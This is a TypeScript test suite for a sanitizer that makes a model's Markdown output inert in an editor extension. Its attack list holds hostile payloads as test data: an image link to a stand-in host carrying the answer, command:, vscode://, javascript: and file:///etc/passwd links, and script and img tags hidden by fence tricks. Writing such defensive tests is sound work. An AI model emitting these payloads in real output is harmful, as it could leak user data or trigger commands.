import assert from 'node:assert/strict';
import fc from 'fast-check';
import Markdown, { type Token } from 'markdown-it';
import { createInertStream, inertMarkdown } from '../../../src/study/markdown/inert';
import { isSafeLink } from '../../../src/study/markdown/links';

/** The most trusting reader of Markdown: HTML, images and links to anything. */
const trusting = new Markdown({ html: true, linkify: false });
trusting.validateLink = () => true;

/** What of a text could act on its own or by a click. */
function dangers(markdown: string): string[] {
  const found: string[] = [];
  const visit = (token: Token): void => {
    if (token.type === 'image' || token.type.startsWith('html')) found.push(token.type);
    if (token.type === 'link_open' && !isSafeLink(String(token.attrGet('href')))) {
      found.push(`link to ${String(token.attrGet('href'))}`);
    }
    token.children?.forEach(visit);
  };
  trusting.parse(markdown, {}).forEach(visit);
  return found;
}

const attacks = [
  '![a](https://evil.example/?q=answer)',
  '![a][b]\n\n[b]: https://evil.example/x.png',
  '[run](command:djangoInterview.resetProgress)',
  '[run](<command:djangoInterview.resetProgress>)',
  '[run](\ncommand:djangoInterview.resetProgress)',
  '[run](  command:x "title")',
  '[run]( &#99;ommand:x)',
  '[run](\\command:x)',
  '[run][a]\n\n[a]: command:x',
  '[run]\n\n[run]:\ncommand:x',
  '> [run]: vscode://x\n\n[run]',
  '- [run]: vscode://x\n\n[run]',
  '[ru\nn]: command:x\n\n[ru n]',
  '<command:djangoInterview.undo>',
  '<vscode://publisher.extension/run>',
  '<img src="https://evil.example/x.png">',
  '<a href="command:x">x</a>',
  '<script>alert(1)</script>',
  '<!--\n```\n-->\n![a](https://evil.example)',
  '<details>\n```\n</details>\n\n![a](https://evil.example)',
  '- a\n  ```\n  code\n![a](https://evil.example)',
  '> ```\n![a](https://evil.example)',
  'a ` b\nc `<img src=x>` d',
  '`` ` <img src=x>',
  '| a | b |\n|---|---|\n| `x | <img src=x> ` | y |',
  '\\`<img src=x>`',
  '`a\\`<img src=x>`',
  '```py `\n![a](https://evil.example)',
  '~~~\n```\n~~~\n![a](https://evil.example)\n```\n<img src=x>',
  '[a](javascript:alert(1))',
  '[a](file:///etc/passwd)',
  '[![a](https://evil.example)](command:x)',
  '!`a`[b](https://evil.example)',
  '!\n[b](https://evil.example)',
  '![',
  ' ~~~\n~~~\n<command:x>',
  '- ~~~\n~~~\n<img src=x>',
  '> ~~~\n~~~\n![a](https://evil.example)',
  '    ~~~\n~~~\n<img src=x>\n~~~\n<img src=x>',
  '1. ```\n   ```\n```\n<img src=x>',
  '](![]()',
  '[a](x](command:y)',
];

describe("a model's Markdown, made inert", () => {
  for (const attack of attacks) {
    it(`takes the danger out of ${JSON.stringify(attack)}`, () => {
      assert.deepEqual(dangers(inertMarkdown(attack)), []);
    });
  }

  it('is tried on attacks that work when they are left as they are', () => {
    const harmless = attacks.filter(attack => dangers(attack).length === 0);
    assert.ok(harmless.length < 8, harmless.join('\n---\n'));
  });

  it('finds no text that stays dangerous', () => {
    const pieces = fc.constantFrom(
      ...['![', '!', '[', ']', '](', '(', ')', ']:', '[a]', ': ', ' ', '\n', '\n\n', '<', '>', '|'],
      ...['`', '``', '```', '\n```\n', '~~~', '\n~~~\n', '    ', '- ', '> ', '1. ', '\\', '&#33;'],
      ...['command:x', 'https://a.example', 'vscode://x', '<img src=x>', '<!--', '-->', '<a>'],
      ...['|---|---|\n', '# ', 'a', '"', "'", '<command:x>', '\t', '\r\n', '&lt;', '<script>'],
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), list => {
        assert.deepEqual(dangers(inertMarkdown(list.join(''))), []);
      }),
      { numRuns: 5000 },
    );
  });

  it('gives the same however the text is cut into pieces', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...attacks, '\n', 'a `b` c', '```\n')), list => {
        const stream = createInertStream();
        const streamed = list.map(piece => stream.add(piece)).join('') + stream.end();
        assert.equal(streamed, inertMarkdown(list.join('')));
      }),
    );
  });

  for (const [what, text] of [
    ['code blocks', '```python\nurl = handlers[key](request)\ndef f() -> list[int]: ...\n```'],
    ['code spans', 'Use `<int:pk>` and `{{ name|upper }}`, `x[1]:` too.'],
    ['links to documentation', 'See [the docs](https://docs.djangoproject.com/en/5.2/).'],
    ['headings, lists, emphasis', '## A\n\n- **b** and *c*\n\n1. d < e\n\n| a | b |\n|---|---|'],
  ] as const) {
    it(`leaves ${what} as they are`, () => assert.equal(inertMarkdown(text), text));
  }
});
